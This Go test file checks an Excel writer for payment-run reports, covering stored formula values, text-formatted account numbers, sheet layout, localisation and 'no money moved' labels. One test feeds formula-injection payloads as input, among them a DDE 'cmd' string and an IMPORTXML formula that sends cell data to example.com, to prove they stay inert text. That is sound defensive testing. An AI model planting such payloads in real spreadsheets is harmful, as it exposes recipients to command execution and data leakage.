package writer

import (
	"archive/zip"
	"encoding/xml"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"payrun/batch"
)

var update = flag.Bool("update", false, "write the golden files again")

// xmlSheet is what the tests look at in a sheet's XML, read without the
// library that wrote it.
type xmlSheet struct {
	FitToPage struct {
		On bool `xml:"fitToPage,attr"`
	} `xml:"sheetPr>pageSetUpPr"`
	Panes []struct {
		TopLeft string `xml:"topLeftCell,attr"`
		State   string `xml:"state,attr"`
	} `xml:"sheetViews>sheetView>pane"`
	Rows []struct {
		Number int       `xml:"r,attr"`
		Cells  []xmlCell `xml:"c"`
	} `xml:"sheetData>row"`
	AutoFilter struct {
		Ref string `xml:"ref,attr"`
	} `xml:"autoFilter"`
	Conditional []struct {
		Range string `xml:"sqref,attr"`
		Rules []struct {
			Type    string `xml:"type,attr"`
			Formula string `xml:"formula"`
		} `xml:"cfRule"`
	} `xml:"conditionalFormatting"`
	Validation []struct {
		Range string `xml:"sqref,attr"`
		List  string `xml:"formula1"`
	} `xml:"dataValidations>dataValidation"`
	Links []struct {
		Cell string `xml:"ref,attr"`
		To   string `xml:"location,attr"`
	} `xml:"hyperlinks>hyperlink"`
	Page struct {
		Paper       int    `xml:"paperSize,attr"`
		Orientation string `xml:"orientation,attr"`
		Wide        int    `xml:"fitToWidth,attr"`
		High        int    `xml:"fitToHeight,attr"`
	} `xml:"pageSetup"`
	Header     string    `xml:"headerFooter>oddHeader"`
	Merged     *struct{} `xml:"mergeCells"`
	Protection *struct{} `xml:"sheetProtection"`
}

type xmlCell struct {
	Ref     string  `xml:"r,attr"`
	Type    string  `xml:"t,attr"`
	Style   int     `xml:"s,attr"`
	Formula *string `xml:"f"`
	Value   *string `xml:"v"`
	Text    *string `xml:"is>t"`
}

// shown is what the cell holds.
func (c xmlCell) shown() string {
	switch {
	case c.Text != nil:
		return *c.Text
	case c.Value != nil:
		return *c.Value
	}
	return ""
}

// opened is a workbook as the tests see it.
type opened struct {
	names  []string // of sheets, in order
	sheets map[string]xmlSheet
	styles struct {
		Formats []struct {
			ID   int    `xml:"numFmtId,attr"`
			Code string `xml:"formatCode,attr"`
		} `xml:"numFmts>numFmt"`
		Cells []struct {
			Format int  `xml:"numFmtId,attr"`
			Quote  bool `xml:"quotePrefix,attr"`
		} `xml:"cellXfs>xf"`
	}
	parts map[string]string
}

func open(t *testing.T, path string) *opened {
	t.Helper()
	o := &opened{sheets: map[string]xmlSheet{}, parts: map[string]string{}}
	z, err := zip.OpenReader(path)
	if err != nil {
		t.Fatal(err)
	}
	defer z.Close()
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		o.parts[f.Name] = string(b)
	}
	decode(t, o.parts["xl/styles.xml"], &o.styles)
	var book struct {
		Sheets []struct {
			Name string `xml:"name,attr"`
			ID   string `xml:"http://schemas.openxmlformats.org/officeDocument/2006/relationships id,attr"`
		} `xml:"sheets>sheet"`
	}
	decode(t, o.parts["xl/workbook.xml"], &book)
	var rels struct {
		All []struct {
			ID     string `xml:"Id,attr"`
			Target string `xml:"Target,attr"`
		} `xml:"Relationship"`
	}
	decode(t, o.parts["xl/_rels/workbook.xml.rels"], &rels)
	for _, s := range book.Sheets {
		for _, r := range rels.All {
			if r.ID == s.ID {
				var sheet xmlSheet
				decode(t, o.parts["xl/"+strings.TrimPrefix(r.Target, "/xl/")], &sheet)
				o.names, o.sheets[s.Name] = append(o.names, s.Name), sheet
			}
		}
	}
	return o
}

func decode(t *testing.T, text string, v any) {
	t.Helper()
	if err := xml.Unmarshal([]byte(text), v); err != nil {
		t.Fatal(err)
	}
}

// cells yields every cell of a sheet by its address.
func (o *opened) cells(sheet string) map[string]xmlCell {
	all := map[string]xmlCell{}
	for _, row := range o.sheets[sheet].Rows {
		for _, c := range row.Cells {
			all[c.Ref] = c
		}
	}
	return all
}

// format is the number format of a cell.
func (o *opened) format(c xmlCell) string {
	id := o.styles.Cells[c.Style].Format
	for _, f := range o.styles.Formats {
		if f.ID == id {
			return f.Code
		}
	}
	return map[int]string{0: "General", 3: "#,##0", 4: "#,##0.00", 49: "@"}[id]
}

// books are the workbooks that the promises below are kept in.
func books(t *testing.T) map[string]string {
	t.Helper()
	dir := t.TempDir()
	untied := november()
	untied.Money.Closing.Amount = untied.Money.Closing.Amount.Sub(rm("50.00"))
	untied.Money.Difference, untied.Money.Causes = rm("-50.00"), []string{"C901", "C902"}
	untied.Statement.Listed.Count--
	untied.Statement.Listed.Amount = untied.Statement.Listed.Amount.Sub(rm("1100.55"))
	untied.Statement.Missing = []string{"2026-11-E0001"}
	untied.State, untied.Run.State, untied.Run.Reason = batch.StateBlocked, batch.RunBlocked, "B807 5"
	untied.Alarms = []batch.Alarm{{Code: "A704", Value: "RM 50.00"}}
	unread := sheet32()
	unread.Money, unread.Statement, unread.Rows.Control = batch.MoneyProof{}, nil, nil
	empty := &batch.Report{Made: written, Run: batch.Run{Name: "x", Debtor: sheet32().Run.Debtor}}
	all := map[string]string{}
	put := func(name string, path string, err error) {
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		all[name] = path
	}
	results := func(name string, r *batch.Report, o Options) {
		path, err := Results(filepath.Join(dir, name+".xlsx"), r, o)
		put(name, path, err)
	}
	results("november", november(), opts())
	results("all-paid", sheet32(), opts())
	for name, lang := range map[string]string{"malay": "ms", "french": "fr", "indonesian": "id"} {
		o := opts()
		o.Lang, o.Before = lang, map[int]batch.Word{7: batch.WordWaiting, 8: batch.WordPaid}
		results(name, november(), o)
	}
	results("untied", untied, opts())
	results("unread", unread, Options{})
	results("empty", empty, Options{})
	path, err := Check(filepath.Join(dir, "check.xlsx"), checked(), opts())
	put("check", path, err)
	path, err = Problems(filepath.Join(dir, "problems.xlsx"), checked(), &batch.Refusal{Code: "F310", Defects: []batch.Defect{{Code: "F310"}}}, opts())
	put("problems", path, err)
	path, err = Problems(filepath.Join(dir, "unreadable.xlsx"), nil, batch.Refuse(batch.Defect{Code: "F315"}), opts())
	put("unreadable", path, err)
	return all
}

// Previews, phones and other programs show a formula's stored value; one that
// is missing, or is text, shows a blank or makes a sum skip it.
func TestEveryFormulaHasItsNumber(t *testing.T) {
	for name, path := range books(t) {
		o, formulas := open(t, path), 0
		for _, sheet := range o.names {
			for ref, c := range o.cells(sheet) {
				if c.Formula == nil {
					continue
				}
				formulas++
				if c.Type != "" || c.Value == nil {
					t.Errorf("%s: %s!%s has no number (type %q)", name, sheet, ref, c.Type)
					continue
				}
				if _, err := strconv.ParseFloat(*c.Value, 64); err != nil {
					t.Errorf("%s: %s!%s holds %q", name, sheet, ref, *c.Value)
				}
			}
		}
		if formulas == 0 {
			t.Errorf("%s: no formula was looked at", name)
		}
		if !strings.Contains(o.parts["xl/workbook.xml"], `fullCalcOnLoad="1"`) && !strings.Contains(o.parts["xl/workbook.xml"], `fullCalcOnLoad="true"`) {
			t.Errorf("%s: formulas are not calculated when it is opened", name)
		}
	}
}

// A stored value that differs from what the formula gives changes under the
// reader's eyes when the workbook is opened.
func TestStoredNumbersAreTheCalculatedOnes(t *testing.T) {
	for name, path := range books(t) {
		f, err := excelize.OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		o := open(t, path)
		for _, sheet := range o.names {
			for ref, c := range o.cells(sheet) {
				if c.Formula == nil {
					continue
				}
				got, err := f.CalcCellValue(sheet, ref, excelize.Options{RawCellValue: true})
				if err != nil {
					t.Errorf("%s: %s!%s =%s: %v", name, sheet, ref, *c.Formula, err)
					continue
				}
				calculated, _ := strconv.ParseFloat(got, 64)
				stored, _ := strconv.ParseFloat(*c.Value, 64)
				if d := calculated - stored; d > 1e-6 || d < -1e-6 {
					t.Errorf("%s: %s!%s =%s gives %v, stored is %v", name, sheet, ref, *c.Formula, calculated, stored)
				}
			}
		}
		f.Close()
	}
}

// An account that is a number has lost a zero; an amount that is text is
// skipped by every sum.
func TestAccountsAreTextAndAmountsAreNumbers(t *testing.T) {
	path := books(t)["november"]
	o, r := open(t, path), november()
	results, failed := o.cells("Results"), o.cells("Failed – fix and re-drop")
	for i, l := range r.Lines {
		account, amount := results[cellName(5, firstData+i)], results[cellName(6, firstData+i)]
		if account.Type != "inlineStr" || account.shown() != l.Account || o.format(account) != "@" {
			t.Errorf("row %d: account %+v in format %s, want the text %s", l.Row, account.shown(), o.format(account), l.Account)
		}
		if !l.Readable {
			if amount.Type != "inlineStr" || amount.shown() != "on leave" {
				t.Errorf("row %d: %q, want what the sheet says", l.Row, amount.shown())
			}
			continue
		}
		if amount.Type != "" || amount.shown() != strconv.FormatFloat(l.Amount.InexactFloat64(), 'f', -1, 64) || o.format(amount) != "#,##0.00" {
			t.Errorf("row %d: amount %q (type %q, format %s), want %s", l.Row, amount.shown(), amount.Type, o.format(amount), l.Amount)
		}
	}
	if c := failed["D4"]; c.Type != "inlineStr" || o.format(c) != "@" || c.shown() != r.Lines[2].Account {
		t.Errorf("Failed sheet: account %+v", c)
	}
	if c := failed["F4"]; c.Type != "" || c.shown() != "1139.29" || o.format(c) != "#,##0.00" {
		t.Errorf("Failed sheet: amount %q, type %q", c.shown(), c.Type)
	}
}

// A currency without cents shows none.
func TestACurrencyWithoutCents(t *testing.T) {
	r := sheet32()
	r.Run.Debtor.Currency = "IDR"
	for i := range r.Lines {
		r.Lines[i].Amount = rm("1500000")
	}
	tie(r)
	path, err := Results(filepath.Join(t.TempDir(), "r.xlsx"), r, opts())
	if err != nil {
		t.Fatal(err)
	}
	o := open(t, path)
	c := o.cells("Results")["F4"]
	if c.shown() != "1500000" || o.format(c) != "#,##0" {
		t.Errorf("%q in format %q", c.shown(), o.format(c))
	}
}

// Text that a spreadsheet program could take for a formula stays text, and
// stays what it was (OWASP: = + - @ tab, carriage return; ASVS 1.2.10).
func TestInjectedTextStaysTextAndUnchanged(t *testing.T) {
	for _, text := range []string{
		"=1+1", "+1", "-Ahmad", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\u00a0=1", "＝1+1", "=cmd|' /C calc'!A0", `=HYPERLINK("http://example.com","x")`,
		"=IMPORTXML(CONCAT(\"http://example.com?v=\",A1),\"//a\")", "a\n=1+1", "'=1", "_x0041_", "<b>&amp;</b>", "  two blanks ", "0123", "1e5",
	} {
		r := november()
		for i := range r.Lines {
			l := &r.Lines[i]
			l.Name, l.Bank = text, text
			l.Original = slices.Clone(l.Original)
			l.Original[0], l.Original[2] = text, text
		}
		r.Lines[2].GatewayReason, r.Lines[2].Value = text, text
		r.Changes[0].Name = text
		r.Run.Source.Headers = slices.Clone(r.Run.Source.Headers)
		r.Run.Source.Headers[0] = text
		path, err := Results(filepath.Join(t.TempDir(), "r.xlsx"), r, opts())
		if err != nil {
			t.Fatal(err)
		}
		o := open(t, path)
		want := map[string]string{"Results": "C4 D4", "Failed – fix and re-drop": "A3 A4 C4", "Needs review": "B4", "Changes since last month": "C7"}
		for sheet, refs := range want {
			cells := o.cells(sheet)
			for ref := range strings.FieldsSeq(refs) {
				c := cells[ref]
				if c.Formula != nil || c.Type != "inlineStr" || c.shown() != strings.ReplaceAll(text, "_x0041_", "_x005F_x0041_") {
					t.Errorf("%q in %s!%s became %q (type %q, formula %v)", text, sheet, ref, c.shown(), c.Type, c.Formula != nil)
				}
				if quoted := o.styles.Cells[c.Style].Quote; quoted != risky(text) && !strings.HasSuffix(ref, "3") {
					t.Errorf("%q in %s!%s: behind an apostrophe %v", text, sheet, ref, quoted)
				}
			}
		}
		f, err := excelize.OpenFile(path)
		if err != nil {
			t.Fatal(err)
		}
		if got, _ := f.GetCellValue("Results", "C4"); got != text {
			t.Errorf("%q is read back as %q", text, got)
		}
		f.Close()
		for _, sheet := range o.names {
			for ref, c := range o.cells(sheet) {
				if c.Formula != nil && !ours.MatchString(*c.Formula) {
					t.Errorf("%s!%s holds a formula that is not ours: %s", sheet, ref, *c.Formula)
				}
			}
		}
	}
}

// ours are the formulas that the program writes.
var ours = regexp.MustCompile(`^(SUBTOTAL|COUNTIF|SUMIFS|SUM|ROUND|MAX)\(`)

// Officers find things where they were last month; accountants link to them.
func TestSheetsTablesAndLinks(t *testing.T) {
	paths := books(t)
	tests := []struct {
		book  string
		names []string
	}{
		{"november", []string{"Summary", "Results", "Needs review", "Failed – fix and re-drop", "Changes since last month", "Audit", "Banks"}},
		{"all-paid", []string{"Summary", "Results", "Needs review", "Failed – fix and re-drop", "Changes since last month", "Audit"}},
		{"malay", []string{"Ringkasan", "Keputusan", "Perlu disemak", "Gagal – betulkan, hantar semula", "Perubahan sejak bulan lepas", "Audit", "Senarai bank"}},
		{"french", []string{"Résumé", "Résultats", "À vérifier", "Échecs – corriger, redéposer", "Changements du mois", "Audit", "Banques"}},
		{"indonesian", []string{"Ringkasan", "Hasil", "Perlu diperiksa", "Gagal – perbaiki, taruh lagi", "Perubahan sejak bulan lalu", "Audit", "Daftar bank"}},
		{"check", []string{"Summary", "Rows", "Needs review", "Changes since last month", "Audit"}},
		{"problems", []string{"Problems", "Nov"}},
		{"unreadable", []string{"Problems"}},
	}
	for _, tt := range tests {
		o := open(t, paths[tt.book])
		if d := cmp.Diff(tt.names, o.names); d != "" {
			t.Errorf("%s: sheets (-want +got)\n%s", tt.book, d)
		}
	}
	for name, path := range paths {
		o := open(t, path)
		for sheet, s := range o.sheets {
			if s.Merged != nil || s.Protection != nil {
				t.Errorf("%s: %s has merged cells or protection", name, sheet)
			}
			if s.Page.Paper != 9 || s.Page.Wide != 1 || !s.FitToPage.On {
				t.Errorf("%s: %s is not A4, one page wide: %+v", name, sheet, s.Page)
			}
			for _, l := range s.Links {
				target, cell, _ := strings.Cut(l.To, "!")
				if _, there := o.sheets[strings.Trim(target, "'")]; !there || cell == "" {
					t.Errorf("%s: %s!%s leads to %s, which is not there", name, sheet, l.Cell, l.To)
				}
			}
		}
		if summary := o.sheets[o.names[0]]; name != "problems" && name != "unreadable" && summary.Page.High != 1 {
			t.Errorf("%s: the Summary is not one page", name)
		}
	}
	o := open(t, paths["november"])
	tables := []string{}
	for part, text := range o.parts {
		if strings.HasPrefix(part, "xl/tables/") {
			var table struct {
				Name   string `xml:"name,attr"`
				Ref    string `xml:"ref,attr"`
				Filter struct {
					Ref string `xml:"ref,attr"`
				} `xml:"autoFilter"`
			}
			decode(t, text, &table)
			if table.Filter.Ref != table.Ref {
				t.Errorf("%s filters %s and is %s", table.Name, table.Filter.Ref, table.Ref)
			}
			tables = append(tables, table.Name+" "+table.Ref)
		}
	}
	slices.Sort(tables)
	if d := cmp.Diff([]string{"Attempts A52:N82", "Banks A3:C5", "Changes A3:I7", "Results A3:P35", "Review A3:J8"}, tables); d != "" {
		t.Errorf("tables (-want +got)\n%s", d)
	}
	results := o.sheets["Results"]
	if len(results.Panes) != 1 || results.Panes[0].TopLeft != "D4" || results.Panes[0].State != "frozen" {
		t.Errorf("panes: %+v", results.Panes)
	}
	if c := o.cells("Results")["F2"]; c.Formula == nil || *c.Formula != "SUBTOTAL(109,F4:F35)" || c.shown() != "43395.28" {
		t.Errorf("the total above the header is %v = %s", c.Formula, c.shown())
	}
	if len(results.Conditional) != 1 || results.Conditional[0].Range != "G4:G35" || len(results.Conditional[0].Rules) != 8 {
		t.Errorf("the words are not coloured: %+v", results.Conditional)
	}
	failed := o.sheets["Failed – fix and re-drop"]
	if failed.AutoFilter.Ref != "$A$3:$J$5" {
		t.Errorf("the Failed sheet filters %q", failed.AutoFilter.Ref)
	}
	if len(failed.Validation) != 1 || failed.Validation[0].Range != "E4:E5" || failed.Validation[0].List != "'Banks'!$A$4:$A$5" {
		t.Errorf("banks on offer: %+v", failed.Validation)
	}
}

// Excel repairs, that is: throws away, a table whose headings differ from its
// cells, are alike or are empty.
func TestTableHeadingsAreTheirCells(t *testing.T) {
	for name, path := range books(t) {
		o := open(t, path)
		for part, text := range o.parts {
			if !strings.HasPrefix(part, "xl/tables/") {
				continue
			}
			var table struct {
				Ref     string `xml:"ref,attr"`
				Columns []struct {
					Name string `xml:"name,attr"`
				} `xml:"tableColumns>tableColumn"`
			}
			decode(t, text, &table)
			from, _, _ := strings.Cut(table.Ref, ":")
			column, row, err := excelize.CellNameToCoordinates(from)
			if err != nil {
				t.Fatal(err)
			}
			var heads []string
			for _, c := range table.Columns {
				if c.Name == "" || slices.Contains(heads, strings.ToLower(c.Name)) {
					t.Errorf("%s: %s has the heading %q twice, or not at all", name, part, c.Name)
				}
				heads = append(heads, strings.ToLower(c.Name))
			}
			found := false
			for _, sheet := range o.names {
				cells, same := o.cells(sheet), true
				for i, c := range table.Columns {
					same = same && cells[cellName(column+i, row)].shown() == c.Name
				}
				found = found || same
			}
			if !found {
				t.Errorf("%s: no sheet has the headings of %s: %q", name, part, heads)
			}
		}
	}
}

// Who sees one sheet, on screen or paper, must see that no money moved, and
// that it is not the last word.
func TestEverySurfaceSaysWhatItIs(t *testing.T) {
	tests := []struct {
		name, want string
		change     func(*batch.Report)
	}{
		{"simulated", "SIMULATED – NO MONEY MOVED", func(r *batch.Report) { r.Run.Debtor.Environment = "simulator" }},
		{"sandbox", "TEST – NO MONEY MOVED", func(r *batch.Report) { r.Run.Debtor.Environment = "sandbox" }},
		{"provisional", "PROVISIONAL", func(*batch.Report) {}},
		{"blocked", "BLOCKED", func(r *batch.Report) { r.State = batch.StateBlocked }},
	}
	for _, tt := range tests {
		r := november()
		tt.change(r)
		path, err := Results(filepath.Join(t.TempDir(), "r.xlsx"), r, opts())
		if err != nil {
			t.Fatal(err)
		}
		o := open(t, path)
		for _, name := range o.names {
			said := false
			for ref, c := range o.cells(name) {
				said = said || strings.HasPrefix(ref, "A") && strings.Contains(c.shown(), tt.want)
			}
			if !said {
				t.Errorf("%s: %s does not say it in a cell", tt.name, name)
			}
			if !strings.Contains(o.sheets[name].Header, tt.want) {
				t.Errorf("%s: %s does not say it on paper: %q", tt.name, name, o.sheets[name].Header)
			}
		}
	}
}

// A dropped Failed sheet pays exactly its rows: it must hold no row whose money
// may have moved.
func TestOnlyRowsThatMayBePaidAgainAreOnTheFailedSheet(t *testing.T) {
	r := november()
	o := open(t, books(t)["november"])
	cells := o.cells("Failed – fix and re-drop")
	var got []string
	for row := firstData; cells[cellName(2, row)].shown() != ""; row++ {
		got = append(got, cells[cellName(2, row)].shown())
	}
	if d := cmp.Diff([]string{"E0003", "E0012"}, got); d != "" {
		t.Errorf("(-want +got)\n%s", d)
	}
	var head []string
	for i := range 10 {
		head = append(head, cells[cellName(i+1, headRow)].shown())
	}
	want := append(slices.Clone(r.Run.Source.Headers), "What to fix (not read)", "external_invoice_ref", "payrun_run", "payrun_attempt")
	if d := cmp.Diff(want, head); d != "" {
		t.Errorf("headings (-want +got)\n%s", d)
	}
	if h, i, j := cells["H4"].shown(), cells["I4"].shown(), cells["J4"].shown(); h != "2026-11-E0003" || i != "nov-7f3a" || j != "1" {
		t.Errorf("the row comes back as %q %q %q", h, i, j)
	}
}

// A sheet that has references keeps them in its own column.
func TestAReferenceColumnIsNotAddedTwice(t *testing.T) {
	r := november()
	r.Run.Source.Headers[1], r.Run.Source.Columns[batch.FieldReference] = "Rujukan", "B"
	path, err := Results(filepath.Join(t.TempDir(), "r.xlsx"), r, opts())
	if err != nil {
		t.Fatal(err)
	}
	for ref, c := range open(t, path).cells("Failed – fix and re-drop") {
		if c.shown() == "external_invoice_ref" {
			t.Errorf("%s repeats the reference", ref)
		}
	}
}

// An account that the sheet shows as 1.12E+11 is right in the file: it is her
// number that has to come back, not its picture.
func TestTheFailedSheetHasTheAccountNotItsPicture(t *testing.T) {
	r := november()
	r.Lines[2].Original[3] = "1.22335E+10"
	path, err := Results(filepath.Join(t.TempDir(), "r.xlsx"), r, opts())
	if err != nil {
		t.Fatal(err)
	}
	if got := open(t, path).cells("Failed – fix and re-drop")["D4"].shown(); got != r.Lines[2].Account {
		t.Errorf("account %q, want %q", got, r.Lines[2].Account)
	}
}

// A document says what it is, and nothing of the machine or the person.
func TestPropertiesNameNoMachine(t *testing.T) {
	for name, path := range books(t) {
		o := open(t, path)
		core, app := o.parts["docProps/core.xml"], o.parts["docProps/app.xml"]
		if !strings.Contains(core, "<dc:creator>payrun</dc:creator>") || !strings.Contains(core, "payrun</cp:lastModifiedBy>") && !strings.Contains(core, "<lastModifiedBy>payrun</lastModifiedBy>") {
			t.Errorf("%s: %s", name, core)
		}
		host, _ := os.Hostname()
		for part, text := range o.parts {
			for _, secret := range []string{host, os.TempDir(), os.Getenv("USER"), filepath.Dir(path)} {
				if len(secret) > 4 && strings.Contains(text, secret) {
					t.Errorf("%s: %s says %q", name, part, secret)
				}
			}
		}
		if !strings.Contains(app, "payrun") {
			t.Errorf("%s: %s", name, app)
		}
	}
}

// What is too long for a cell is cut where the reader can see it, and never
// beyond what spreadsheet programs open.
func TestLongTextsFitACell(t *testing.T) {
	for _, text := range []string{strings.Repeat("x", 40000), strings.Repeat("💰", 20000), strings.Repeat("é", 32767)} {
		got := clip(text)
		if n := len(utf16units(got)); n > cellMax {
			t.Errorf("%d units", n)
		}
		if got != text && !strings.HasSuffix(got, "…") {
			t.Errorf("cut in silence: %q", got[len(got)-9:])
		}
	}
	if got := clip(strings.Repeat("é", 32767)); strings.HasSuffix(got, "…") {
		t.Error("a text that fits was cut")
	}
}

// A sheet of more rows than a spreadsheet has must be refused, not cut.
func TestMoreRowsThanASheetHasAreRefused(t *testing.T) {
	dir := t.TempDir()
	r := sheet32()
	r.Lines = make([]batch.ReportLine, rowMax)
	if _, err := Results(filepath.Join(dir, "r.xlsx"), r, opts()); !errors.Is(err, ErrTooManyRows) {
		t.Errorf("the error is %v", err)
	}
	if left := names(t, dir); len(left) > 0 {
		t.Errorf("left behind: %q", left)
	}
}

// The whole of what people read, to be looked at when it changes: go test
// ./writer -run TestGolden -update
func TestGolden(t *testing.T) {
	for name, path := range books(t) {
		if name == "empty" || name == "all-paid" {
			continue
		}
		o := open(t, path)
		if name != "november" && name != "problems" {
			o.names = o.names[:1] // the rest is as in November's
		}
		got := dump(o)
		golden := filepath.Join("testdata", name+".txt")
		if *update {
			if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		want, err := os.ReadFile(golden)
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(got, "\n")); d != "" {
			t.Errorf("%s (-want +got)\n%s", name, d)
		}
	}
}

// dump writes a workbook cell by cell: text in quotes, numbers with their
// format, formulas with their stored value, then links and fills.
func dump(o *opened) string {
	var b strings.Builder
	for _, name := range o.names {
		fmt.Fprintf(&b, "== %s\n", name)
		s := o.sheets[name]
		for _, row := range s.Rows {
			for _, c := range row.Cells {
				switch {
				case c.Formula != nil:
					fmt.Fprintf(&b, "%s =%s → %s [%s]\n", c.Ref, *c.Formula, c.shown(), o.format(c))
				case c.Text != nil:
					fmt.Fprintf(&b, "%s %q\n", c.Ref, *c.Text)
				case c.Value != nil:
					fmt.Fprintf(&b, "%s %s [%s]\n", c.Ref, *c.Value, o.format(c))
				}
			}
		}
		for _, l := range s.Links {
			fmt.Fprintf(&b, "link %s → %s\n", l.Cell, l.To)
		}
		for _, f := range s.Conditional {
			for _, rule := range f.Rules {
				fmt.Fprintf(&b, "fill %s when %s %s\n", f.Range, rule.Type, rule.Formula)
			}
		}
	}
	return b.String()
}

// Times are on the officer's clock, and in UTC where it says so.
func TestMomentsAreOnTheRightClock(t *testing.T) {
	at := time.Date(2026, time.November, 25, 18, 30, 0, 0, time.UTC)
	for zone, want := range map[*time.Location]string{time.UTC: "2026-11-25 18:30:00", kl: "2026-11-26 02:30:00"} {
		c := moment(0, at, zone)
		got, err := excelize.ExcelDateToTime(c.Value.(float64), false)
		if err != nil {
			t.Fatal(err)
		}
		if got.Round(time.Second).Format("2006-01-02 15:04:05") != want {
			t.Errorf("%v in %v", got, zone)
		}
	}
	if c := moment(0, time.Time{}, kl); c.Value != nil {
		t.Errorf("no time became %v", c.Value)
	}
}
